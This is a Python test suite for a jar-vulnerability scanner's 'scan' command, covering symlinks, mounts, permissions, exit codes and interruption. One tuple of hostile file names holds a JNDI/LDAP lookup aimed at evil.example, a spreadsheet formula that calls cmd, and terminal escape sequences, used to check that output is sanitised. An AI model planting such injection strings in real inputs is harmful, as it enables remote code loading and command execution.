"""Where caltrop scan goes, where it does not, and what it says about that."""
import os
import shutil
import signal
import socket
import subprocess

import scan_case
from scan_case import DEADLINE, SUSPECT, ScanCase, bad_jar, cli_case, on_terminal

HOSTILE = (b"${jndi:ldap://evil.example/a}.jar", b"\x1b[31mred\x1b[0m.jar", b"new\nline.jar", b"=cmd|' /C calc'!A0.jar", b"not-utf8-\xff\xfe.jar",
           b"  blank .jar", b"-rf.jar", "e\u202exe.raj.jar".encode())


def in_namespace(script, *args):
    """Runs a shell script in a mount namespace of its own, or None where there are none to be had."""
    command = ["unshare", "-m", "--propagation", "private"] if os.geteuid() == 0 else ["unshare", "-rm"]
    if subprocess.run([*command, "true"], capture_output=True, check=False).returncode != 0:
        return None
    return subprocess.run([*command, "sh", "-ec", script, "sh", *map(str, args)], capture_output=True, check=False, timeout=DEADLINE)


def as_nobody():
    """A prefix that takes all rights away, for tests that run as root; None where that cannot be done."""
    if os.geteuid() != 0:
        return []
    command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", "--bounding-set=-all"]
    return command if subprocess.run([*command, "true"], capture_output=True, check=False).returncode == 0 else None


class Places(ScanCase):
    def test_files_folders_and_several_roots(self):
        self.put("a/b/one.jar", bad_jar())
        two = self.put("two.jar", bad_jar())
        other = self.write("other/three.jar", bad_jar())
        self.assertEqual(self.scan(status=1).paths(), self.below("a/b/one.jar", "two.jar"))
        self.assertEqual(self.scan(status=1, roots=[two]).paths(), [two])
        self.assertEqual(self.scan(status=1, roots=[self.root, other, self.root / "a"]).paths(), sorted([*self.below("a/b/one.jar", "two.jar"), other]))
        report = self.scan(status=1, roots=[os.path.relpath(self.root)])
        self.assertEqual(report.own["roots"], [str(self.root)])
        self.assertEqual(report.paths(), self.below("a/b/one.jar", "two.jar"))

    def test_nothing_found(self):
        self.put("fixed.jar", bad_jar("2.0"))
        report = self.scan(status=0)
        self.assertEqual((report.findings, report.own["state"], report.own["complete"]), ([], "clean", True))
        self.assertEqual(report.own["counts"]["files"], 1)

    def test_missing_root(self):
        self.put("a.jar", bad_jar())
        report = self.scan(status=3, roots=[self.root, self.root / "nosuch"])
        self.assertEqual(report.paths(), self.below("a.jar"))
        self.assertEqual(report.notes(True), [(str(self.root / "nosuch"), "No such file or directory")])

    def test_special_files_are_never_opened(self):
        os.mkfifo(self.root / "x.jar")
        with socket.socket(socket.AF_UNIX) as s:
            s.bind(str(self.root / "s.jar"))
            self.put("y.jar", bad_jar())
            self.assertEqual(self.scan(status=1).paths(), self.below("y.jar"))
            report = self.scan(status=3, roots=[self.root / "x.jar"])
            self.assertIn("never opened", report.notes(True)[0][1])
            self.scan(status=3, roots=["/dev/null"])

    def test_links(self):
        outside = self.write("outside/out.jar", bad_jar())
        self.put("in/a.jar", bad_jar())
        os.symlink(outside, self.root / "out.jar")
        os.symlink(str(self.dir / "outside"), self.root / "folder")
        os.symlink("../../outside", self.root / "in" / "relative")
        os.symlink("a.jar", self.root / "in" / "same.jar")
        os.symlink(".", self.root / "in" / "loop")
        os.symlink("nowhere", self.root / "dangling")
        report = self.scan(status=1)
        self.assertEqual(report.paths(), self.below("in/a.jar"))
        self.assertEqual(sorted(path for path, _ in report.left_out()), self.below("folder", "in/relative", "out.jar"))
        self.assertIn(str(self.dir / "outside"), dict(report.left_out())[str(self.root / "in" / "relative")])
        # A root that is a link is what the user meant.
        os.symlink(self.root, self.dir / "link")
        self.assertEqual(self.scan(status=1, roots=[self.dir / "link"]).paths(), self.below("in/a.jar"))

    def test_hard_links_are_one_file(self):
        first = self.put("a/1.jar", bad_jar())
        for name in ("a/2.jar", "b/3.jar"):
            os.makedirs((self.root / name).parent, exist_ok=True)
            os.link(first, self.root / name)
        for jobs in (1, 8):
            report = self.scan("-j", jobs, status=1)
            self.assertEqual(len(report.findings), 1)
            self.assertEqual(len([c for c in report.components if c["package"]["name"] == "bad"]), 1)

    def test_exclude(self):
        for name in ("a/x.jar", "a/skip/y.jar", "b/x.jar", "b/old/z.jar"):
            self.put(name, bad_jar())
        report = self.scan("--exclude", "skip", "--exclude", "*/b/old*", status=1)
        self.assertEqual(report.paths(), self.below("a/x.jar", "b/x.jar"))
        self.assertEqual(report.own["exclusions"], ["skip", "*/b/old*"])
        self.assertTrue(report.own["complete"])
        self.assertEqual(self.scan("--exclude", "x.jar", status=1).paths(), self.below("a/skip/y.jar", "b/old/z.jar"))

    def test_unreadable(self):
        prefix = as_nobody()
        if prefix is None:
            self.skipTest("setpriv cannot take rights away here")
        os.chmod(self.dir, 0o755)
        self.put("a/x.jar", bad_jar())
        secret = self.put("b/y.jar", bad_jar())
        self.put("c/z.jar", bad_jar())
        os.chmod(secret, 0)
        os.chmod(self.root / "c", 0)
        command = [*prefix, cli_case.CALTROP, "scan", "--json", "--suspect", SUSPECT, str(self.root)]
        done = subprocess.run(command, capture_output=True, env=self.env, timeout=DEADLINE, check=False)
        self.assertEqual(done.returncode, 3, done.stderr)
        report = scan_case.Report(done.stdout.decode())
        self.assertEqual(report.paths(), self.below("a/x.jar"))
        self.assertEqual(report.notes(True), [(secret, "Permission denied"), (str(self.root / "c"), "Permission denied")])
        self.assertEqual((report.own["complete"], report.own["counts"]["unreadable"]), (False, 2))

    def test_deep_folders(self):
        # Deeper than the descriptors that are kept, and deeper than PATH_MAX.
        path, wide = self.root, "d" * 60
        here = os.open(path, os.O_RDONLY)
        for i in range(200):
            os.mkdir(wide, dir_fd=here)
            if i % 40 == 0:
                fd = os.open("side.jar", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=here)
                os.write(fd, bad_jar())
                os.close(fd)
            below = os.open(wide, os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = below
        fd = os.open("deep.jar", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=here)
        os.write(fd, bad_jar())
        os.close(fd)
        os.close(here)
        self.addCleanup(subprocess.run, ["rm", "-rf", str(self.root)], check=False)
        report = self.scan(status=1)
        self.assertEqual(len(report.findings), 6)
        self.assertEqual(max(len(p) for p in report.paths()), len(str(self.root)) + 200 * 61 + len("/deep.jar"))

    def test_hostile_names(self):
        for name in HOSTILE:
            self.put(name, bad_jar())
        report = self.scan(status=1)
        self.assertEqual(len(report.findings), len(HOSTILE))
        for options in ((), ("-v",), ("--output", "csv"), ("--output", "sarif")):
            out = self.run_cli("scan", "--suspect", SUSPECT, *options, str(self.root), status=1).stdout
            self.assertNotIn(b"${", out)
            self.assertFalse([c for c in out if c < 32 and c != 10], options)
            out.decode("utf-8")

    def test_one_thread_and_many_say_the_same(self):
        for i in range(60):
            self.put("d%d/x%d.jar" % (i % 7, i), bad_jar())
        self.put("broken.jar", bad_jar()[:200])

        def lines(jobs):
            found = self.scan("-j", jobs).lines
            for line in found:
                line.pop("@timestamp")
                for stamp in ("start", "end"):
                    line["event"].pop(stamp, None)
            return found
        once = lines(1)
        for jobs in (2, 8):
            self.assertEqual(lines(jobs), once)


class Mounts(ScanCase):
    def test_virtual_and_bind_mounts(self):
        self.put("a/x.jar", bad_jar())
        self.put("b/.keep", b"")
        self.put("proc/.keep", b"")
        script = ('mount -t proc proc "$1/proc" 2>/dev/null || mount --rbind /proc "$1/proc"; mount --bind "$1/a" "$1/b"; '
                  'exec "$2" scan --json --suspect "$3" "$1"')
        done = in_namespace(script, self.root, cli_case.CALTROP, SUSPECT)
        if done is None:
            self.skipTest("no mount namespace to be had here")
        self.assertEqual(done.returncode, 1, done.stderr)
        report = scan_case.Report(done.stdout.decode())
        # Two mounts of one folder are one folder.
        self.assertEqual(len(report.findings), 1)
        self.assertEqual(report.left_out(), [(str(self.root / "proc"), "virtual file system (proc)")])
        self.assertTrue(report.own["complete"])

    def test_a_root_on_a_virtual_file_system(self):
        report = self.scan(status=3, roots=["/proc"])
        self.assertEqual(report.notes(True), [("/proc", "virtual file system (proc)")])


class Endings(ScanCase):
    def test_exit_statuses(self):
        self.put("x.jar", bad_jar())
        self.run_cli("scan", str(self.root), status=0)
        self.run_cli("scan", "--suspect", SUSPECT, str(self.root), status=1)
        self.run_cli("scan", "--nosuch", status=2)
        for wrong in (("--suspect", "nonsense"), ("--suspect", "pkg:maven/a/b@[2,1]"), ("--families", "rar"), ("--nice", "fast"), ("-j", "0"),
                      ("--output", "xml"), ("--fingerprints", "/nosuch"), ("--advisories", "/nosuch"), ("--compare", "/nosuch"),
                      ("--sbom", "x.txt"), ("--sbom-format", "spdx"), ("--expect", "x")):
            done = self.run_cli("scan", *wrong, str(self.root), status=2)
            self.assertTrue(done.stderr.startswith(b"caltrop scan: "), done.stderr)

    def test_full_disk_and_closed_pipe(self):
        self.put("x.jar", bad_jar())
        for options in ((), ("--json",), ("--output", "csv"), ("--output", "sarif")):
            with open("/dev/full", "wb") as full:
                done = self.run_cli("scan", *options, str(self.root), stdout=full, status=4)
            self.assertIn(b"cannot write the output: No space left on device", done.stderr)
            read, write = os.pipe()
            os.close(read)
            done = self.run_cli("scan", *options, str(self.root), stdout=write, status=4)
            os.close(write)
            self.assertIn(b"Broken pipe", done.stderr)

    def test_interrupted(self):
        for i in range(50):
            self.put("d/%02d.jar" % i, bad_jar())
        # One file a second: it is still under way whenever the signal comes.
        child = self.start("scan", "--json", "--nice", "1", "-j", "1", "--suspect", SUSPECT, str(self.root))
        folder = "/proc/%d/fd/" % child.pid

        def under_way():
            try:
                return str(self.root / "d") in [os.readlink(folder + fd) for fd in os.listdir(folder)]
            except OSError:
                return False
        self.await_that(under_way, "the folder to be walked")
        child.send_signal(signal.SIGINT)
        out, err = child.communicate(timeout=DEADLINE)
        self.assertEqual(child.returncode, 130)
        self.assertIn(b"interrupted: this report is partial", err)
        report = scan_case.Report(out.decode())
        self.assertEqual((report.own["interrupted"], report.own["complete"]), (True, False))
        self.assertLess(len(report.findings), 50)

    def test_file_that_goes_while_it_is_walked(self):
        # What is gone by the time it is opened is no failure: nothing is there any more.
        for i in range(200):
            self.put("d%d/x.jar" % i, bad_jar())
        child = self.start("scan", "--json", "--suspect", SUSPECT, "-j", "2", str(self.root))
        for i in range(200):
            shutil.rmtree(self.root / ("d%d" % i), ignore_errors=True)
        out, _ = child.communicate(timeout=DEADLINE)
        self.assertIn(child.returncode, (0, 1))
        self.assertTrue(scan_case.Report(out.decode()).own["complete"])

    def test_80_columns(self):
        self.put("a/rather/long/name/of/a/folder/that/is/not/short/x.jar", bad_jar())
        self.put("broken.jar", bad_jar()[:300])
        shown, status = on_terminal(["scan", "--suspect", SUSPECT, str(self.root)], 80, self.env)
        self.assertEqual(status, 3)
        text = shown.replace("\r", "")
        self.assertIn("AFFECTED", text)
        self.assertIn("NOT READ, so this answer is incomplete", text)
        plain = [line for line in text.split("\n") if str(self.dir) not in line and "\033[K" not in line]
        plain = [line.replace("\033[1;31m", "").replace("\033[0m", "").replace("\033[33m", "") for line in plain]
        self.assertFalse([line for line in plain if len(line) > 80])


if __name__ == "__main__":
    scan_case.main()
